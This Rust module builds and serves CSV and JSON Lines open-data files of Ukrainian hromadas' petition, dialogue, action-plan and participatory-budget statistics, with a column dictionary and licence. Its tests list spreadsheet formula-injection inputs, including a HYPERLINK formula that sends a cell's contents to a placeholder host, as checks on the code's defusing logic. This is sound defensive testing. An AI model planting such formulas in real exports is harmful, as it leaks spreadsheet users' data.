//! Open data: every projection table and the practice catalogue as CSV (UTF-8 with a byte-order
//! mark, RFC 4180 quoting) and JSON Lines, over plain HTTP `GET` on the association's listener
//! under [`PREFIX`], with a data dictionary (each column's meaning and unit), the licence, and
//! the signed statement the files derive from.
//!
//! The files are written by the statement's own scan (`digest::compute_within` with a
//! [`RowSink`]), in the one repeatable-read snapshot whose digest and positions the statement
//! signs, so every file is exactly the projection at the stated positions; they are replaced
//! with each new statement and held in memory. "Overdue now" figures depend on today's date and
//! are the API's, not the files'.

use std::collections::BTreeMap;
use std::sync::{Arc, RwLock};

use bytes::Bytes;
use event_store_core::MunicipalityCode;
use http::header::{self, HeaderValue};
use http::{Method, Request, Response, StatusCode};
use projection::codes::{
    DECISION_NAMES, DIALOGUE_KIND_NAMES, MILESTONE_STATUS_NAMES, OPENED_GOVERNMENT_NAMES,
    PROJECT_STATUS_NAMES, PetitionPhase,
};
use projection::{
    AnswerDays, BudgetProjectRow, CommitmentRow, Counters, DialogueRow, MilestoneRow, PetitionRow,
    PlanRow, RoundRow, WeeklyCounters,
};
use reference::Reference;
use serde_json::{Value, json};
use sqlx::Row;
use tonic::body::Body;

use crate::digest::RowSink;
use crate::error::AssociationError;
use crate::store::{db, parse_code, uint};

/// Where the files are served.
pub const PREFIX: &str = "/open-data/";

/// The licence every file is published under.
pub const LICENCE: &str = "CC-BY-4.0";
pub const LICENCE_URL: &str = "https://creativecommons.org/licenses/by/4.0/";

/// One column: its name, what it means and its unit (empty for none).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Column {
    pub name: &'static str,
    pub meaning: &'static str,
    pub unit: &'static str,
}

const fn col(name: &'static str, meaning: &'static str, unit: &'static str) -> Column {
    Column {
        name,
        meaning,
        unit,
    }
}

/// A published table: its file name (without extension), what a row is, and its columns.
#[derive(Debug, Clone, Copy)]
pub struct Table {
    pub name: &'static str,
    pub row: &'static str,
    pub columns: &'static [Column],
}

const CODE: Column = col("code", "the hromada's KATOTTG code", "");
const UTC: &str = "UTC time, ISO 8601";
const DAY: &str = "Kyiv date, yyyy-mm-dd";
const COUNT: &str = "count";
const KOPECKS: &str = "kopecks (1/100 UAH)";

/// Every table, in the order the index lists them.
pub const TABLES: [Table; 11] = [
    Table {
        name: "hromadas",
        row: "one hromada with verified events: its totals since its first event",
        columns: &[
            CODE,
            col("name_uk", "the hromada's name in Ukrainian", ""),
            col(
                "name_en",
                "the hromada's name in English (transliterated)",
                "",
            ),
            col("oblast_code", "the oblast's KATOTTG code", ""),
            col("population", "residents (2022 estimate)", "people"),
            col("petitions_filed", "petitions filed", COUNT),
            col(
                "petitions_published",
                "petitions published after moderation",
                COUNT,
            ),
            col(
                "petitions_rejected",
                "petitions rejected by moderation",
                COUNT,
            ),
            col(
                "petitions_threshold_reached",
                "petitions that reached their signature threshold",
                COUNT,
            ),
            col(
                "petitions_collection_failed",
                "petitions whose collection ended below the threshold",
                COUNT,
            ),
            col(
                "petitions_consideration_started",
                "petitions whose consideration started",
                COUNT,
            ),
            col("petitions_answered", "petitions answered", COUNT),
            col(
                "petitions_answered_on_time",
                "answers on time: consideration started within 3 working days of the threshold and the answer by its deadline",
                COUNT,
            ),
            col(
                "petitions_moderated_late",
                "petitions moderated after 2 working days",
                COUNT,
            ),
            col(
                "petitions_started_late",
                "petitions whose consideration started after 3 working days",
                COUNT,
            ),
            col(
                "statute_answer_beyond_law",
                "petitions published under an answer term longer than the law's 10 working days",
                COUNT,
            ),
            col(
                "statute_collection_beyond_law",
                "petitions published under a collection period longer than 90 days",
                COUNT,
            ),
            col("signatures", "signatures on petitions", COUNT),
            col(
                "dialogues_public_consultation",
                "public consultations announced",
                COUNT,
            ),
            col(
                "dialogues_public_hearing",
                "public hearings announced",
                COUNT,
            ),
            col("dialogues_round_table", "round tables announced", COUNT),
            col(
                "dialogues_e_consultation",
                "e-consultations announced",
                COUNT,
            ),
            col(
                "dialogues_youth_council",
                "youth council sessions announced",
                COUNT,
            ),
            col("dialogues_other", "other dialogues announced", COUNT),
            col("dialogues_closed", "dialogues closed", COUNT),
            col(
                "outcome_reports",
                "dialogues' outcome reports published",
                COUNT,
            ),
            col(
                "contributions",
                "residents' contributions to dialogues",
                COUNT,
            ),
            col("contributions_answered", "contributions answered", COUNT),
            col("plans_adopted", "OGP Local action plans adopted", COUNT),
            col("plans_closed", "action plans closed", COUNT),
            col("commitments", "commitments of action plans", COUNT),
            col(
                "commitments_assessed",
                "commitments assessed (by the hromada itself)",
                COUNT,
            ),
            col("milestones", "milestones of commitments", COUNT),
            col(
                "milestones_no_report",
                "milestones with no progress report yet",
                COUNT,
            ),
            col(
                "milestones_no_evidence_available",
                "milestones last reported: no evidence available",
                COUNT,
            ),
            col(
                "milestones_not_started",
                "milestones last reported: not started",
                COUNT,
            ),
            col(
                "milestones_limited",
                "milestones last reported: limited",
                COUNT,
            ),
            col(
                "milestones_substantial",
                "milestones last reported: substantial",
                COUNT,
            ),
            col(
                "milestones_complete",
                "milestones last reported: complete",
                COUNT,
            ),
            col(
                "opened_government_worsened",
                "assessed commitments: opened government worsened",
                COUNT,
            ),
            col(
                "opened_government_did_not_change",
                "assessed commitments: did not change",
                COUNT,
            ),
            col(
                "opened_government_marginal",
                "assessed commitments: marginal",
                COUNT,
            ),
            col(
                "opened_government_major",
                "assessed commitments: major",
                COUNT,
            ),
            col(
                "opened_government_outstanding",
                "assessed commitments: outstanding",
                COUNT,
            ),
            col(
                "anomalies",
                "verified events that could not be applied to the projection",
                COUNT,
            ),
        ],
    },
    Table {
        name: "weekly",
        row: "one hromada's events in one Kyiv week (Monday to Sunday)",
        columns: &[
            CODE,
            col("week", "the Monday of the week", DAY),
            col("petitions_filed", "petitions filed", COUNT),
            col("signatures", "signatures", COUNT),
            col(
                "petitions_threshold_reached",
                "petitions that reached their threshold",
                COUNT,
            ),
            col("petitions_answered", "petitions answered", COUNT),
            col("dialogues_closed", "dialogues closed", COUNT),
            col("contributions", "contributions", COUNT),
            col(
                "milestones_completed",
                "milestones first reported complete",
                COUNT,
            ),
        ],
    },
    Table {
        name: "answer_days",
        row: "how many of a hromada's answers took a given number of days",
        columns: &[
            CODE,
            col(
                "days",
                "Kyiv calendar days from the start of consideration to the answer",
                "days",
            ),
            col("answers", "answers that took that long", COUNT),
        ],
    },
    Table {
        name: "petitions",
        row: "one petition",
        columns: &[
            CODE,
            col(
                "petition_id",
                "the petition's id in the hromada's log",
                "UUID",
            ),
            col(
                "phase",
                "awaiting_moderation, rejected, collecting, threshold_reached, collection_failed, under_consideration, answered",
                "",
            ),
            col("filed_at", "when it was filed", UTC),
            col("published_at", "when moderation published it", UTC),
            col(
                "threshold",
                "signatures needed, from the statute's rule at publication",
                "signatures",
            ),
            col("signatures", "signatures collected", "signatures"),
            col("threshold_reached_at", "when it reached its threshold", UTC),
            col(
                "consideration_started_at",
                "when consideration started",
                UTC,
            ),
            col(
                "answer_due",
                "the last day for the answer, never later than the statute's term",
                DAY,
            ),
            col("answered_at", "when the council answered", UTC),
            col("decision", "supported, partly_supported, not_supported", ""),
            col(
                "answered_on_time",
                "whether consideration started in time and the answer came by answer_due",
                "true/false",
            ),
            col(
                "implementation_updates",
                "updates on implementing a supported answer",
                COUNT,
            ),
            col(
                "moderation_due",
                "the last day for moderation (2 working days)",
                DAY,
            ),
            col(
                "moderated_on_time",
                "whether moderation came by moderation_due",
                "true/false",
            ),
            col(
                "answer_term_days",
                "the statute's answer term",
                "working days",
            ),
            col(
                "collection_period_days",
                "the statute's collection period",
                "days",
            ),
            col(
                "start_due",
                "the last day to start consideration (3 working days after the threshold)",
                DAY,
            ),
            col(
                "started_on_time",
                "whether consideration started by start_due",
                "true/false",
            ),
        ],
    },
    Table {
        name: "dialogues",
        row: "one public dialogue",
        columns: &[
            CODE,
            col(
                "dialogue_id",
                "the dialogue's id in the hromada's log",
                "UUID",
            ),
            col(
                "kind",
                "public_consultation, public_hearing, round_table, e_consultation, youth_council, other",
                "",
            ),
            col("announced_at", "when it was announced", UTC),
            col("contributions", "residents' contributions", COUNT),
            col("answered", "contributions answered", COUNT),
            col("accepted", "contributions accepted", COUNT),
            col("partly_accepted", "contributions partly accepted", COUNT),
            col("rejected", "contributions rejected", COUNT),
            col("closed_at", "when it closed", UTC),
            col(
                "attendance",
                "people present, as reported at closing",
                "people",
            ),
            col(
                "outcome_published_at",
                "when its outcome report was published",
                UTC,
            ),
        ],
    },
    Table {
        name: "plans",
        row: "one OGP Local action plan",
        columns: &[
            CODE,
            col("plan_id", "the plan's id in the hromada's log", "UUID"),
            col(
                "adopted_at",
                "when the council adopted it (for a draft: when it was drafted)",
                UTC,
            ),
            col("period_start", "the first day of its period", DAY),
            col("period_end", "the last day of its period", DAY),
            col("commitments", "its commitments", COUNT),
            col("closed_at", "when it closed", UTC),
            col(
                "draft",
                "a draft the council has not adopted yet",
                "true or false",
            ),
        ],
    },
    Table {
        name: "commitments",
        row: "one commitment of an action plan",
        columns: &[
            CODE,
            col("commitment_id", "the commitment's id", "UUID"),
            col("plan_id", "its plan's id", "UUID"),
            col("added_at", "when it joined the plan", UTC),
            col("milestones", "its milestones", COUNT),
            col(
                "completion",
                "the assessed completion (IRM scale), empty until assessed",
                "",
            ),
            col(
                "opened_government",
                "the assessed \"did it open government\" level, empty until assessed",
                "",
            ),
            col(
                "withdrawn_at",
                "when it was withdrawn from the plan (its milestones never overdue after)",
                UTC,
            ),
        ],
    },
    Table {
        name: "milestones",
        row: "one milestone of a commitment",
        columns: &[
            CODE,
            col("milestone_id", "the milestone's id", "UUID"),
            col("plan_id", "its plan's id", "UUID"),
            col("commitment_id", "its commitment's id", "UUID"),
            col("due", "its due day", DAY),
            col(
                "status",
                "its last reported status (IRM scale), no_report before any",
                "",
            ),
            col("completed_at", "when a report first said complete", UTC),
            col(
                "withdrawn_at",
                "when it was withdrawn (never overdue after)",
                UTC,
            ),
        ],
    },
    Table {
        name: "budget_rounds",
        row: "one participatory budget round (громадський бюджет)",
        columns: &[
            CODE,
            col("round_id", "the round's id in the hromada's log", "UUID"),
            col("announced_at", "when the council announced it", UTC),
            col(
                "budget_year",
                "the budget year its winners are funded from",
                "year",
            ),
            col("amount", "what its winners may cost together", KOPECKS),
            col(
                "local_budget",
                "the hromada's local budget for the year, as the round states it",
                KOPECKS,
            ),
            col("voting_closes", "when its voting closes", UTC),
            col("projects", "projects submitted", COUNT),
            col(
                "projects_eligible",
                "projects found eligible (on the ballot)",
                COUNT,
            ),
            col("ballots", "ballots cast", COUNT),
            col("results_at", "when its results were declared", UTC),
            col("winners", "winning projects", COUNT),
            col("projects_funded", "winning projects funded", COUNT),
            col(
                "funded_total",
                "what the funded projects were given together",
                KOPECKS,
            ),
            col(
                "projects_completed",
                "funded projects reported completed",
                COUNT,
            ),
            col(
                "projects_cancelled",
                "funded projects reported cancelled",
                COUNT,
            ),
            col("closed_at", "when it closed", UTC),
        ],
    },
    Table {
        name: "budget_projects",
        row: "one project submitted to a participatory budget round",
        columns: &[
            CODE,
            col("project_id", "the project's id", "UUID"),
            col("round_id", "its round's id", "UUID"),
            col("submitted_at", "when it was submitted", UTC),
            col(
                "cost",
                "the author's estimate, or the approved cost once eligible",
                KOPECKS,
            ),
            col(
                "eligible",
                "whether it was found eligible; empty before review",
                "",
            ),
            col("funded", "what it was given, once funded", KOPECKS),
            col(
                "status",
                "its last reported status (not_started, in_progress, completed, cancelled); empty before any",
                "",
            ),
        ],
    },
    Table {
        name: "practices",
        row: "one entry of the practice catalogue: a published petition, a dialogue or a commitment",
        columns: &[
            CODE,
            col("tool", "petition, dialogue, commitment", ""),
            col("id", "its id in the hromada's log", "UUID"),
            col(
                "title",
                "the petition's title, the dialogue's topic, the commitment's title",
                "",
            ),
            col(
                "text",
                "the petition's text, the dialogue's organiser, the commitment's description (at most 4,000 characters)",
                "",
            ),
            col(
                "outcome",
                "the council's answer, the dialogue's outcome report",
                "",
            ),
            col(
                "category",
                "the petition's category, the dialogue's kind",
                "",
            ),
            col("status", "where it stands", ""),
            col(
                "decision",
                "the answer's decision, or the commitment's \"did it open government\" level",
                "",
            ),
            col("completion", "the commitment's assessed completion", ""),
            col("lead_institution", "the commitment's lead institution", ""),
            col(
                "ogp_values",
                "the commitment's OGP values, separated by ';'",
                "",
            ),
            col("started_at", "when it began", UTC),
            col("updated_at", "when it last changed", UTC),
            col(
                "seq",
                "the sequence number of the event that last changed it, for a receipt",
                "",
            ),
        ],
    },
];

/// A cell's value.
#[derive(Debug, Clone, PartialEq)]
enum Cell {
    Null,
    Text(String),
    Int(i64),
    Bool(bool),
}

impl Cell {
    fn csv(&self) -> String {
        match self {
            Self::Null => String::new(),
            Self::Int(n) => n.to_string(),
            Self::Bool(b) => b.to_string(),
            Self::Text(t) => {
                // A spreadsheet runs a cell that starts like a formula: such text gets a
                // leading apostrophe, which spreadsheets read as "this is text" (the JSON
                // Lines keep it as written).
                let t = if t.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    format!("'{t}")
                } else {
                    t.clone()
                };
                if t.contains([',', '"', '\n', '\r']) {
                    format!("\"{}\"", t.replace('"', "\"\""))
                } else {
                    t
                }
            }
        }
    }

    fn json(&self) -> Value {
        match self {
            Self::Null => Value::Null,
            Self::Int(n) => json!(n),
            Self::Bool(b) => json!(b),
            Self::Text(t) => json!(t),
        }
    }
}

fn text(t: impl Into<String>) -> Cell {
    Cell::Text(t.into())
}

fn int(n: impl Into<i64>) -> Cell {
    Cell::Int(n.into())
}

fn opt<T>(value: Option<T>, f: impl FnOnce(T) -> Cell) -> Cell {
    value.map_or(Cell::Null, f)
}

fn time(micros: i64) -> Cell {
    let days = micros.div_euclid(86_400_000_000);
    let rest = micros.rem_euclid(86_400_000_000);
    let date = domain::CivilDate::from_epoch_days(days)
        .map_or_else(|| days.to_string(), |d| d.to_string());
    let (secs, frac) = (rest / 1_000_000, rest % 1_000_000);
    text(format!(
        "{date}T{:02}:{:02}:{:02}.{frac:06}Z",
        secs / 3600,
        secs / 60 % 60,
        secs % 60
    ))
}

fn day(days: i32) -> Cell {
    domain::CivilDate::from_epoch_days(i64::from(days)).map_or(Cell::Null, |d| text(d.to_string()))
}

fn named(names: &[&str], code: u8) -> Cell {
    names
        .get(usize::from(code))
        .map_or_else(|| int(code), |n| text(*n))
}

fn phase_name(phase: u8) -> Cell {
    text(match PetitionPhase::from_u8(phase) {
        Some(PetitionPhase::AwaitingModeration) => "awaiting_moderation",
        Some(PetitionPhase::Rejected) => "rejected",
        Some(PetitionPhase::Collecting) => "collecting",
        Some(PetitionPhase::ThresholdReached) => "threshold_reached",
        Some(PetitionPhase::CollectionFailed) => "collection_failed",
        Some(PetitionPhase::UnderConsideration) => "under_consideration",
        Some(PetitionPhase::Answered) => "answered",
        None => return int(phase),
    })
}

/// The signed statement the files derive from.
#[derive(Debug, Clone, Copy)]
pub struct Source<'a> {
    pub note: &'a str,
    pub digest: [u8; 32],
    pub positions_hash: [u8; 32],
    pub made_at_micros: i64,
    pub hromadas: usize,
}

/// One table being written, as CSV and as JSON Lines.
#[derive(Debug, Default)]
struct TableFiles {
    csv: Vec<u8>,
    jsonl: Vec<u8>,
    rows: u64,
}

/// Writes the files from the rows of one scan ([`RowSink`]).
#[derive(Debug)]
pub struct Writer {
    reference: Arc<Reference>,
    tables: BTreeMap<&'static str, TableFiles>,
}

impl Writer {
    pub fn new(reference: Arc<Reference>) -> Self {
        let tables = TABLES
            .iter()
            .map(|table| {
                let header: Vec<&str> = table.columns.iter().map(|c| c.name).collect();
                let mut csv = "\u{feff}".as_bytes().to_vec();
                csv.extend_from_slice(header.join(",").as_bytes());
                csv.extend_from_slice(b"\r\n");
                let files = TableFiles {
                    csv,
                    ..TableFiles::default()
                };
                (table.name, files)
            })
            .collect();
        Self { reference, tables }
    }

    fn push(&mut self, name: &'static str, cells: Vec<Cell>) {
        let Some(table) = TABLES.iter().find(|t| t.name == name) else {
            return;
        };
        debug_assert_eq!(cells.len(), table.columns.len(), "{name}");
        let files = self.tables.entry(name).or_default();
        let line: Vec<String> = cells.iter().map(Cell::csv).collect();
        files.csv.extend_from_slice(line.join(",").as_bytes());
        files.csv.extend_from_slice(b"\r\n");
        // One object per line, its keys in the columns' order (as the CSV header).
        let members: Vec<String> = table
            .columns
            .iter()
            .zip(&cells)
            .map(|(c, cell)| format!("{}:{}", Value::from(c.name), cell.json()))
            .collect();
        files.jsonl.push(b'{');
        files.jsonl.extend_from_slice(members.join(",").as_bytes());
        files.jsonl.extend_from_slice(b"}\n");
        files.rows += 1;
    }

    /// The finished files, with the index (licence, statement, files) and the dictionary.
    pub fn finish(self, statement: &Source<'_>) -> OpenData {
        let mut files = BTreeMap::new();
        let mut listed = Vec::new();
        for table in &TABLES {
            let written = self.tables.get(table.name);
            let rows = written.map_or(0, |t| t.rows);
            listed.push(json!({
                "name": table.name,
                "row": table.row,
                "rows": rows,
                "csv": format!("{PREFIX}{}.csv", table.name),
                "jsonl": format!("{PREFIX}{}.jsonl", table.name),
            }));
        }
        for (name, written) in self.tables {
            files.insert(format!("{name}.csv"), File::new(written.csv, CSV));
            files.insert(format!("{name}.jsonl"), File::new(written.jsonl, JSONL));
        }
        let stated = json!({
            "note": statement.note,
            "digest": hex::encode(statement.digest),
            "positions_hash": hex::encode(statement.positions_hash),
            "made_at_micros": statement.made_at_micros,
            "hromadas": statement.hromadas,
        });
        let index = json!({
            "csv": "UTF-8 with a byte-order mark, RFC 4180; a text cell that starts with =, +, -, @, a tab or a carriage return has an apostrophe put before it, so a spreadsheet does not run it (the JSON Lines files have every text as written)",
            "publisher": "vidkryto: the Association of Ukrainian Cities' national view of its hromadas' verified logs",
            "licence": LICENCE,
            "licence_url": LICENCE_URL,
            "statement": stated,
            "dictionary": format!("{PREFIX}dictionary.json"),
            "files": listed,
        });
        let dictionary: Vec<Value> = TABLES
            .iter()
            .map(|t| {
                json!({
                    "name": t.name,
                    "row": t.row,
                    "columns": t.columns.iter().map(|c| json!({
                        "name": c.name, "meaning": c.meaning, "unit": c.unit,
                    })).collect::<Vec<_>>(),
                })
            })
            .collect();
        let pretty = |v: &Value| serde_json::to_vec_pretty(v).unwrap_or_default();
        files.insert("index.json".into(), File::new(pretty(&index), JSON));
        files.insert(
            "dictionary.json".into(),
            File::new(
                pretty(&json!({ "licence": LICENCE, "tables": dictionary })),
                JSON,
            ),
        );
        OpenData {
            files,
            digest: hex::encode(statement.digest),
            positions_hash: hex::encode(statement.positions_hash),
        }
    }
}

impl RowSink for Writer {
    fn counters(&mut self, code: MunicipalityCode, c: &Counters) {
        let m = self.reference.municipality(&code);
        let mut cells = vec![
            text(code.as_str()),
            opt(m, |m| text(m.name_uk.clone())),
            opt(m, |m| text(m.name_en.clone())),
            opt(m, |m| text(m.oblast.clone())),
            opt(m, |m| int(i64::try_from(m.population).unwrap_or(i64::MAX))),
        ];
        cells.extend(
            [
                c.petitions_filed,
                c.petitions_published,
                c.petitions_rejected,
                c.petitions_threshold_reached,
                c.petitions_collection_failed,
                c.petitions_consideration_started,
                c.petitions_answered,
                c.petitions_answered_on_time,
                c.petitions_moderated_late,
                c.petitions_started_late,
                c.statute_answer_beyond_law,
                c.statute_collection_beyond_law,
                c.signatures,
            ]
            .map(int),
        );
        cells.extend(c.dialogues_announced_by_kind.map(int));
        cells.extend(
            [
                c.dialogues_closed,
                c.outcome_reports,
                c.contributions,
                c.contributions_answered,
                c.plans_adopted,
                c.plans_closed,
                c.commitments,
                c.commitments_assessed,
                c.milestones,
            ]
            .map(int),
        );
        cells.extend(c.milestones_by_status.map(int));
        cells.extend(c.opened_government.map(int));
        cells.push(int(c.anomalies));
        self.push("hromadas", cells);
    }

    fn weekly(&mut self, w: &WeeklyCounters) {
        let mut cells = vec![text(w.municipality.as_str()), day(w.week)];
        cells.extend(
            [
                w.petitions_filed,
                w.signatures,
                w.petitions_threshold_reached,
                w.petitions_answered,
                w.dialogues_closed,
                w.contributions,
                w.milestones_completed,
            ]
            .map(int),
        );
        self.push("weekly", cells);
    }

    fn answer_days(&mut self, a: &AnswerDays) {
        let cells = vec![text(a.municipality.as_str()), int(a.days), int(a.count)];
        self.push("answer_days", cells);
    }

    fn petition(&mut self, p: &PetitionRow) {
        let cells = vec![
            text(p.municipality.as_str()),
            text(p.petition_id.to_string()),
            phase_name(p.phase),
            time(p.filed_at),
            opt(p.published_at, time),
            int(p.threshold),
            int(p.signatures),
            opt(p.threshold_reached_at, time),
            opt(p.consideration_started_at, time),
            opt(p.answer_due, day),
            opt(p.answered_at, time),
            opt(p.decision, |d| named(&DECISION_NAMES, d)),
            opt(p.answered_on_time, Cell::Bool),
            int(p.implementation_updates),
            day(p.moderation_due),
            opt(p.moderated_on_time, Cell::Bool),
            int(p.answer_term_days),
            int(p.collection_period_days),
            opt(p.start_due, day),
            opt(p.started_on_time, Cell::Bool),
        ];
        self.push("petitions", cells);
    }

    fn dialogue(&mut self, d: &DialogueRow) {
        let cells = vec![
            text(d.municipality.as_str()),
            text(d.dialogue_id.to_string()),
            named(&DIALOGUE_KIND_NAMES, d.kind),
            time(d.announced_at),
            int(d.contributions),
            int(d.answered),
            int(d.accepted),
            int(d.partly_accepted),
            int(d.rejected),
            opt(d.closed_at, time),
            int(d.attendance),
            opt(d.outcome_published_at, time),
        ];
        self.push("dialogues", cells);
    }

    fn plan(&mut self, p: &PlanRow) {
        let cells = vec![
            text(p.municipality.as_str()),
            text(p.plan_id.to_string()),
            time(p.adopted_at),
            day(p.period_start),
            day(p.period_end),
            int(p.commitments),
            opt(p.closed_at, time),
            text(if p.draft { "true" } else { "false" }),
        ];
        self.push("plans", cells);
    }

    fn commitment(&mut self, c: &CommitmentRow) {
        let cells = vec![
            text(c.municipality.as_str()),
            text(c.commitment_id.to_string()),
            text(c.plan_id.to_string()),
            time(c.added_at),
            int(c.milestones),
            opt(c.completion, |s| named(&MILESTONE_STATUS_NAMES[1..], s)),
            opt(c.opened_government, |l| named(&OPENED_GOVERNMENT_NAMES, l)),
            opt(c.withdrawn_at, time),
        ];
        self.push("commitments", cells);
    }

    fn milestone(&mut self, m: &MilestoneRow) {
        let slot = projection::codes::milestone_status_slot(m.status);
        let cells = vec![
            text(m.municipality.as_str()),
            text(m.milestone_id.to_string()),
            text(m.plan_id.to_string()),
            text(m.commitment_id.to_string()),
            day(m.due),
            opt(slot, |s| {
                named(&MILESTONE_STATUS_NAMES, u8::try_from(s).unwrap_or(u8::MAX))
            }),
            opt(m.completed_at, time),
            opt(m.withdrawn_at, time),
        ];
        self.push("milestones", cells);
    }

    fn round(&mut self, r: &RoundRow) {
        let cells = vec![
            text(r.municipality.as_str()),
            text(r.round_id.to_string()),
            time(r.announced_at),
            int(r.budget_year),
            int(r.amount),
            int(r.local_budget),
            time(r.voting_closes),
            int(r.projects),
            int(r.projects_eligible),
            int(r.ballots),
            opt(r.results_at, time),
            int(r.winners),
            int(r.projects_funded),
            int(r.funded_total),
            int(r.projects_completed),
            int(r.projects_cancelled),
            opt(r.closed_at, time),
        ];
        self.push("budget_rounds", cells);
    }

    fn budget_project(&mut self, p: &BudgetProjectRow) {
        let cells = vec![
            text(p.municipality.as_str()),
            text(p.project_id.to_string()),
            text(p.round_id.to_string()),
            time(p.submitted_at),
            int(p.cost),
            opt(p.eligible, Cell::Bool),
            opt(p.funded, int),
            opt(p.status, |s| named(&PROJECT_STATUS_NAMES, s)),
        ];
        self.push("budget_projects", cells);
    }

    fn practice(&mut self, row: &sqlx::postgres::PgRow) -> Result<(), AssociationError> {
        let get = |name: &str| row.try_get::<String, _>(name).map_err(db);
        let tool: i16 = row.try_get("tool").map_err(db)?;
        let id: Vec<u8> = row.try_get("id").map_err(db)?;
        let values: Vec<String> = row.try_get("ogp_values").map_err(db)?;
        let tool = projection::catalogue::Tool::from_code(tool)
            .ok_or_else(|| AssociationError::Corrupt("a catalogue tool".into()))?;
        let id = uuid::Uuid::from_slice(&id)
            .map_err(|_| AssociationError::Corrupt("a catalogue id".into()))?;
        let cells = vec![
            text(parse_code(&get("municipality")?)?.as_str()),
            text(tool.name()),
            text(id.to_string()),
            text(get("title")?),
            text(get("body")?),
            text(get("outcome")?),
            text(get("category")?),
            text(get("status")?),
            text(get("decision")?),
            text(get("completion")?),
            text(get("lead")?),
            text(values.join(";")),
            time(row.try_get("started_at").map_err(db)?),
            time(row.try_get("updated_at").map_err(db)?),
            int(i64::try_from(uint(row.try_get("seq").map_err(db)?)).unwrap_or(i64::MAX)),
        ];
        self.push("practices", cells);
        Ok(())
    }
}

const CSV: &str = "text/csv; charset=utf-8; header=present";
const JSONL: &str = "application/jsonl; charset=utf-8";
const JSON: &str = "application/json; charset=utf-8";

/// One served file.
#[derive(Debug)]
struct File {
    bytes: Bytes,
    media_type: &'static str,
    etag: HeaderValue,
}

impl File {
    fn new(bytes: Vec<u8>, media_type: &'static str) -> Self {
        let bytes = Bytes::from(bytes);
        Self {
            etag: wire::site::strong_etag(&bytes),
            bytes,
            media_type,
        }
    }
}

/// The files of one statement.
#[derive(Debug)]
pub struct OpenData {
    files: BTreeMap<String, File>,
    digest: String,
    positions_hash: String,
}

impl OpenData {
    /// Bytes held in all files.
    pub fn bytes(&self) -> usize {
        self.files.values().map(|f| f.bytes.len()).sum()
    }
}

/// Serves the latest files under [`PREFIX`] (`GET`, `HEAD`): `503` until the first statement,
/// `404` for a name it does not have.
#[derive(Debug, Clone, Default)]
pub struct OpenDataServer(Arc<RwLock<Option<Arc<OpenData>>>>);

impl OpenDataServer {
    /// Publishes a new set of files.
    pub fn publish(&self, data: OpenData) {
        let mut current = match self.0.write() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        };
        *current = Some(Arc::new(data));
    }

    fn current(&self) -> Option<Arc<OpenData>> {
        match self.0.read() {
            Ok(guard) => guard.clone(),
            Err(poisoned) => poisoned.into_inner().clone(),
        }
    }
}

fn status(code: StatusCode, message: &str) -> Response<Body> {
    let mut response = Response::new(Body::new(http_body_util::Full::new(Bytes::from(format!(
        "{message}\n"
    )))));
    *response.status_mut() = code;
    response.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/plain; charset=utf-8"),
    );
    response
}

impl wire::intercept::Intercept for OpenDataServer {
    fn answers<B>(&self, request: &Request<B>) -> bool {
        (request.method() == Method::GET || request.method() == Method::HEAD)
            && request.uri().path().starts_with(PREFIX)
    }

    fn answer<B>(&self, request: Request<B>) -> wire::intercept::Answer {
        let data = self.current();
        let head = request.method() == Method::HEAD;
        let name = match request.uri().path().strip_prefix(PREFIX) {
            Some("") | None => "index.json".to_owned(),
            Some(name) => name.to_owned(),
        };
        let if_none_match = request.headers().clone();
        Box::pin(async move {
            let Some(data) = data else {
                return status(
                    StatusCode::SERVICE_UNAVAILABLE,
                    "the association has not stated its projection yet: try again in a minute",
                );
            };
            let Some(file) = data.files.get(&name) else {
                return status(
                    StatusCode::NOT_FOUND,
                    "no such file: see /open-data/index.json",
                );
            };
            let unchanged = wire::site::none_match(&if_none_match, &file.etag);
            let mut response =
                wire::documents::respond(head, unchanged, &file.bytes, file.media_type, &file.etag);
            let headers = response.headers_mut();
            headers.insert(
                header::ACCESS_CONTROL_ALLOW_ORIGIN,
                HeaderValue::from_static("*"),
            );
            for (name, value) in [
                ("vidkryto-statement-digest", &data.digest),
                ("vidkryto-statement-positions", &data.positions_hash),
            ] {
                if let Ok(value) = HeaderValue::from_str(value) {
                    headers.insert(name, value);
                }
            }
            headers.insert(
                "link",
                HeaderValue::from_static(
                    "<https://creativecommons.org/licenses/by/4.0/>; rel=\"license\"",
                ),
            );
            response
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_quote_as_rfc_4180_says() {
        assert_eq!(text("просто").csv(), "просто");
        assert_eq!(text("a, b").csv(), "\"a, b\"");
        assert_eq!(
            text("він сказав \"так\"").csv(),
            "\"він сказав \"\"так\"\"\""
        );
        assert_eq!(text("два\nрядки").csv(), "\"два\nрядки\"");
        assert_eq!(Cell::Null.csv(), "");
        assert_eq!(
            time(1_795_000_000_123_456).csv(),
            "2026-11-18T11:06:40.123456Z"
        );
        assert_eq!(time(0).csv(), "1970-01-01T00:00:00.000000Z");
    }

    #[test]
    fn text_a_spreadsheet_would_run_as_a_formula_is_defused() {
        // A resident's petition title, published: opened in a spreadsheet, it must stay text.
        for hostile in [
            "=HYPERLINK(\"http://x/?\"&A1,\"a\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            let cell = text(hostile).csv();
            let unquoted = cell.trim_start_matches('"');
            assert!(unquoted.starts_with('\''), "{hostile:?} → {cell:?}");
        }
        // Numbers and ordinary text are left alone; JSON keeps the text as written.
        assert_eq!(int(-5).csv(), "-5");
        assert_eq!(text("Ремонт").csv(), "Ремонт");
        assert_eq!(text("=1").json(), json!("=1"));
    }

    #[test]
    fn every_table_has_unique_named_and_described_columns() {
        for table in &TABLES {
            let mut names: Vec<&str> = table.columns.iter().map(|c| c.name).collect();
            names.sort_unstable();
            names.dedup();
            assert_eq!(names.len(), table.columns.len(), "{}", table.name);
            assert!(
                table.columns.iter().all(|c| !c.meaning.is_empty()),
                "{}",
                table.name
            );
        }
    }
}
